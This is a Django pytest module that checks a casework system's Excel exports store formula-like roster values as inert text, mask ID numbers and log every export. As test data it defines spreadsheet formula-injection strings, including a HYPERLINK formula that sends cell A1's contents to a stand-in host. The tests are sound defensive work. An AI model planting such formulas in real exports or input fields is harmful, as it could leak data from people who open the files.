"""Every workbook: a roster's `=`, `+`, `-` or `@` stays text, and every export is recorded."""

import datetime
import io
import re
import zipfile
from pathlib import Path
from urllib.parse import quote

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from casework.exports import Sheet, xlsx_write
from casework.models import Case, ExportLog, Reconciliation, Role, RosterImport
from tests.factories import region, staff
from tests.rosters import person, write_csv
from tests.workflows.conftest import open_task, survey_form, task_url

HYPERLINK = '=HYPERLINK("http://x/?"&A1,"x")'
VILLAGE = "+1+1"
NOTE = "@SUM(A1)"
TOWNSHIP = "-2+3"
FORMULA = re.compile(rb"<(\w+:)?f[\s>/]")
ROOT = Path(__file__).resolve().parents[2]


def cells(content: bytes) -> dict:
    """Every non-empty cell of every sheet, by value; the file holds no formula at all."""
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert not FORMULA.search(archive.read(name)), name
    found = {}
    for sheet in load_workbook(io.BytesIO(content)):
        for row in sheet.iter_rows():
            for cell in row:
                if cell.value is not None:
                    found.setdefault(cell.value, []).append(cell)
    return found


def assert_text(content: bytes, *literals: str) -> dict:
    found = cells(content)
    for literal in literals:
        assert literal in found, (literal, list(found))
        assert {cell.data_type for cell in found[literal]} == {"s"}
    return found


@pytest.fixture
def hostile_roster(login, supervisor, tmp_path):
    """A roster whose laborers are named and placed like formulas, imported through the page."""
    rows = [
        person(1, township=TOWNSHIP, village=VILLAGE, **{"姓名": HYPERLINK}),
        person(2, township=TOWNSHIP, village=VILLAGE, **{"姓名": TOWNSHIP}),
        person(3, county="龙川县"),  # rejected, so that the row report has a row
    ]
    path = write_csv(tmp_path / "roster.csv", rows)  # a spreadsheet would hold a formula
    upload = SimpleUploadedFile(f"{NOTE}.csv", path.read_bytes())
    client = login(supervisor)
    client.post(reverse("casework:import_upload"), {"file": upload})
    record = RosterImport.objects.get()
    client.post(reverse("casework:import_confirm", args=[record.pk]))
    return record


def test_every_workbook_writes_formula_like_text_as_text_and_is_recorded(
    login, supervisor, hostile_roster
):
    worker = staff("cw_formula", Role.CASEWORKER, f"紫金县/{TOWNSHIP}")
    colleague = staff("cw_formula2", Role.CASEWORKER, f"紫金县/{TOWNSHIP}")
    working = Case.objects.get(person__name=HYPERLINK)
    wishing = Case.objects.get(person__name=TOWNSHIP)
    client = login(worker)
    client.post(task_url(open_task(working, "survey")), survey_form(working, "local"))
    client.post(task_url(open_task(wishing, "survey")), survey_form(
        wishing, training_wish="yes", training_kind="skill", training_trade="cook",
        startup_wish="yes", startup_project_wish=NOTE,
    ))  # fmt: skip

    needs = client.get(reverse("needs"), {"_export": "xlsx"})
    assert needs["Content-Disposition"] == "attachment; filename*=utf-8''" + quote("需求清单.xlsx")
    assert_text(needs.content, TOWNSHIP, VILLAGE, NOTE)

    boss = login(supervisor)
    done = boss.post(
        reverse("workflows:reassign"),
        {"holder": str(worker.pk), "scope": "all", "to_user": colleague.pk, "confirmed": "1"},
    )
    receipt = boss.get(f"{done['Location']}receipt/")
    found = assert_text(receipt.content, HYPERLINK, TOWNSHIP)
    sheet = load_workbook(io.BytesIO(receipt.content)).active
    due = [row[4] for row in sheet.iter_rows(min_row=2, values_only=True)]
    assert len(due) == 2 and all(isinstance(day, datetime.datetime) for day in due)  # dates

    login(colleague).post(task_url(open_task(working, "employment")), {
        "started_on": "2026-10-01", "employer": NOTE, "location_class": "in_county",
        "form": "employee",
    })  # fmt: skip
    boss = login(supervisor)
    ledger = boss.get(reverse("casework:ledger_export"))
    id_number = working.person.id_number
    masked = id_number[:6] + "********" + id_number[-4:]
    found = assert_text(ledger.content, HYPERLINK, TOWNSHIP, VILLAGE, masked)
    assert id_number not in found

    boss.post(reverse("programmes:reconciliations"),
              {"county": region("紫金县").pk, "held_on": "2026-11-20"})  # fmt: skip
    round_ = Reconciliation.objects.get()
    boss.post(reverse("programmes:reconciliation", args=[round_.pk]),
              {"on": timezone.localdate().isoformat(), "case": [working.pk]})  # fmt: skip
    full = boss.get(reverse("programmes:reconciliation_export", args=[round_.pk]))
    assert_text(full.content, HYPERLINK, TOWNSHIP, VILLAGE, NOTE, id_number)

    report = boss.get(reverse("casework:import_report", args=[hostile_roster.pk]))
    found = assert_text(report.content, f"{NOTE}.csv", "out_of_scope")
    assert found["out_of_scope"][0].offset(column=-2).data_type == "n"  # the row number

    logs = {log.kind: log for log in ExportLog.objects.all()}
    assert len(logs) == ExportLog.objects.count() == 5
    assert {kind: log.actor for kind, log in logs.items()} == {
        "needs": worker, "receipt": supervisor, "ledger": supervisor,
        "reconciliation": supervisor, "import_report": supervisor,
    }  # fmt: skip
    assert [kind for kind, log in logs.items() if log.full_id_numbers] == ["reconciliation"]
    # one laborer wishing, one confirmed; the report: a rejected row, a new township and village
    assert [logs[kind].rows for kind in ("needs", "reconciliation", "import_report")] == [1, 1, 3]


@pytest.mark.parametrize("text", ["=1+1", "+1", "-1", "@A1", "\t=1+1", "\r=1+1", "#N/A", "=A"])
def test_the_helper_writes_any_string_as_text_and_keeps_numbers_and_dates(text):
    buffer = io.BytesIO()
    day = datetime.date(2026, 11, 20)
    rows = xlsx_write([Sheet("s", ["text", "number", "date"], [[text, 12, day]])], buffer)
    assert rows == 1
    found = cells(buffer.getvalue())
    # openpyxl writes through lxml, which keeps a carriage return as &#13;: read back exactly
    (text_cell,), (number,) = found[text], found[12]
    (date,) = found[datetime.datetime(2026, 11, 20)]
    assert (text_cell.data_type, text_cell.row) == ("s", 2)
    assert number.data_type == "n" and date.is_date


def test_a_row_of_plain_and_styled_values_keeps_each_cells_style():
    """Plain text is handed to openpyxl as a value, which it binds to a cell it reuses (a
    fresh one after a styled cell): the text after a date or a wrapped cell comes out with
    neither style, an empty string as an empty cell."""
    buffer = io.BytesIO()
    day = datetime.date(2026, 11, 20)
    row = ["甲", day, "乙", "丙\n丁", "戊", "", "=1+1", "己"]
    xlsx_write([Sheet("s", [], [row])], buffer)
    cells = list(load_workbook(buffer).active.iter_rows(values_only=False))[0]
    assert [cell.value for cell in cells] == [
        "甲", datetime.datetime(2026, 11, 20), "乙", "丙\n丁", "戊", None, "=1+1", "己",
    ]  # fmt: skip
    assert [cell.is_date for cell in cells] == [False, True, *[False] * 6]
    assert [bool(cell.alignment.wrap_text) for cell in cells] == [
        False, False, False, True, False, False, False, False,
    ]  # fmt: skip
    assert [cell.data_type for cell in cells] == ["s", "d", "s", "s", "s", "n", "s", "s"]


def test_export_records_are_in_the_admin_read_only(login, administrator, supervisor):
    ExportLog.objects.create(actor=supervisor, kind="ledger", description="test", rows=3)
    client = login(administrator)
    listing = client.get("/admin/casework/exportlog/")
    assert listing.status_code == 200 and "sup_zijin" in listing.content.decode()
    log = ExportLog.objects.get()
    assert client.get(f"/admin/casework/exportlog/{log.pk}/change/").status_code == 200
    assert client.get("/admin/casework/exportlog/add/").status_code == 403
    assert client.get(f"/admin/casework/exportlog/{log.pk}/delete/").status_code == 403
    client.post(f"/admin/casework/exportlog/{log.pk}/change/", {"rows": 0})
    assert ExportLog.objects.get().rows == 3
    assert "ExportLog" in (ROOT / "README.md").read_text()


WRITERS = re.compile(r"\bWorkbook\(|\btablib\b|django_tables2\.export|\bExportMixin\b")


def test_only_the_export_helper_writes_workbooks():
    sources = [
        path
        for package in ("casework", "workflows", "notifications", "config")
        for path in (ROOT / package).rglob("*.py")
    ]
    assert ROOT / "casework" / "exports.py" in sources
    writers = sorted(
        str(path.relative_to(ROOT))
        for path in sources
        if path.name != "exports.py" and WRITERS.search(path.read_text(encoding="utf-8"))
    )
    assert writers == []
